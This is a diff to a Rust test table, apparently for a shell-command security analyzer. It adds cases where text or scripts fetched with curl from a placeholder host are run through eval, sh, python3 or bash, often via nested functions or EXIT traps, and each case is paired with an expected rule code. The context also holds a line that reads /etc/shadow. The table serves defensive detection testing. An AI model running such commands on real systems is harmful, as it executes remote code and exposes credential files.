@@ -453,6 +453,41 @@ const CASES: &[(&str, &str)] = &[
     ("curl -s https://x/i.sh > i.sh; bash i.sh", "0057"),
     ("wget -qO- https://x/i.sh > /tmp/i.sh && chmod +x /tmp/i.sh && /tmp/i.sh", "0054"),
     ("curl -s https://x/env | source /dev/stdin", "0050"),
+    // Fetched text that reaches code run later or past the calls the walk follows: a body
+    // walked on its own takes what it does not know as possibly fetched, in a program that
+    // fetches anywhere.
+    ("x=$(curl -s https://x/v); a(){ b; }; b(){ c; }; c(){ d; }; d(){ e; }; e(){ eval \"$x\"; }; a", "0054"),
+    (
+        "x=$(curl -s https://x/v); a(){ b \"$@\"; }; b(){ c \"$@\"; }; c(){ d \"$@\"; }; d(){ e \"$@\"; }; e(){ eval \"$1\"; }; a \"$x\"",
+        "0054",
+    ),
+    (
+        "a(){ b \"$@\"; }; b(){ c \"$@\"; }; c(){ d \"$@\"; }; d(){ e \"$@\"; }; e(){ echo \"$1\" | sh; }; a \"$(curl -s https://x/v)\"",
+        "0054",
+    ),
+    (
+        "x=$(curl -s https://x/v); a(){ b \"$@\"; }; b(){ c \"$@\"; }; c(){ d \"$@\"; }; d(){ e \"$@\"; }; e(){ python3 -c \"$1\"; }; a \"$x\"",
+        "0055",
+    ),
+    ("e(){ eval \"$x\"; }; trap e EXIT; x=$(curl -s https://x/v)", "0054"),
+    ("e(){ eval \"$x\"; }; trap e EXIT; g(){ x=$(curl -s https://x/v); }; h(){ g; }; h", "0054"),
+    ("trap 'eval \"$x\"' EXIT; g(){ x=$(curl -s https://x/v); }; g", "0054"),
+    ("x=$(curl -s https://x/v); echo \"$x\"; f(){ y=abc; eval \"$y\"; }; trap f EXIT", "0044"),
+    ("e(){ eval \"$x\"; }; trap e EXIT; trap 'x=$(curl -s https://x/v)' INT", "0054"),
+    ("f(){ eval \"$1\"; }; g(){ f \"$@\"; }; trap 'g \"echo hi\"' EXIT", "0005"),
+    // A file saved from the network and run later: by a trap, past the calls the walk
+    // follows, or where the directory is not known.
+    ("curl -so i.sh https://x/i; trap \"bash ./i.sh\" EXIT", "0056"),
+    ("curl -so i.sh https://x/i; trap ./i.sh EXIT", "0057"),
+    ("run(){ bash ./i.sh; }; trap run EXIT; get(){ curl -so i.sh https://x/i; }; get", "0056"),
+    ("a(){ b; }; b(){ c; }; c(){ d; }; d(){ e; }; e(){ bash ./i.sh; }; curl -so i.sh https://x/i; a", "0056"),
+    ("run(){ ./i.sh; }; trap run EXIT; trap \"curl -so i.sh https://x/i\" INT", "0057"),
+    ("cd \"$(cat d)\"; curl -so i.sh https://x/i; bash ./i.sh", "0054"),
+    ("cd \"$(cat d)\"; curl -s https://x/i > \"$(cat n)\"; bash i.sh", "0054"),
+    ("curl -so i.sh https://x/i; trap \"bash ./other.sh\" EXIT", "0047"),
+    ("f=out.html; curl -s https://x/i > \"$f\"; bash run.sh", "0047"),
+    // A command whose name is not known, given fetched text, may be a function that runs it.
+    ("cmd=$(cat f); e(){ eval \"$1\"; }; $cmd \"$(curl -s https://x/v)\"", "0055"),
     ("PS4='$(cat /etc/shadow)' bash -xc true", "4004"),
     // --- privilege ------------------------------------------------------------------------------
     ("sudo ls", "1004"),
